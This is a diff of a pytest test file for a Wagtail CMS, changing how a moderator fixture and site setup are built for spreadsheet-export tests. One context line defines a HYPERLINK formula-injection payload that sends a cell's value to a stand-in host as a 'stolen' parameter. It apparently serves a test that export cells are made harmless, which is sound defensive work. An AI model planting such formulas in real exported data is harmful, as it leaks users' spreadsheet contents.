@@ -6,7 +6,6 @@ import io
 from datetime import UTC, date, datetime
 
 import pytest
-from django.contrib.auth.models import Group
 from django.urls import reverse
 from openpyxl import load_workbook
 from wagtail.admin.views.mixins import SpreadsheetExportMixin
@@ -14,7 +13,8 @@ from wagtail.contrib.redirects.models import Redirect
 from wagtail.log_actions import log
 from wagtail.models import Page, Site
 
-from cms.models import GuidancePage, HomePage
+from cms.actions.setting_up import set_up_sites
+from cms.models import GuidancePage, HomePage, SiteEditing
 from cms.spreadsheets import harmless, write_harmless_cells
 from tests.factories import UserFactory
 from tests.returns.pages import browser
@@ -26,7 +26,7 @@ FORMULA = '=HYPERLINK("https://example.com/?stolen="&A1,"Read more")'
 @pytest.fixture
 def moderator():
     user = UserFactory()
-    user.groups.set(Group.objects.filter(name__in=["Editors", "Moderators"]))
+    user.groups.add(SiteEditing.objects.get().publishers)
     return user
 
 
@@ -34,9 +34,10 @@ def moderator():
 def page(moderator):
     """A live page with a formula for a title, as an editor can write it."""
     home = Page.objects.get(depth=1).add_child(
-        instance=HomePage(title="Home", slug="start", summary="Welcome.", introduction="Welcome.")
+        instance=HomePage(title="Home", slug="start", introduction="Welcome.", summary="Welcome.")
     )
     Site.objects.update(root_page=home)
+    set_up_sites()
     made = home.add_child(instance=GuidancePage(title=FORMULA, slug="trap", summary="What to send."))
     made.save_revision(user=moderator).publish(user=moderator)
     log(instance=made, action="wagtail.edit", user=moderator)
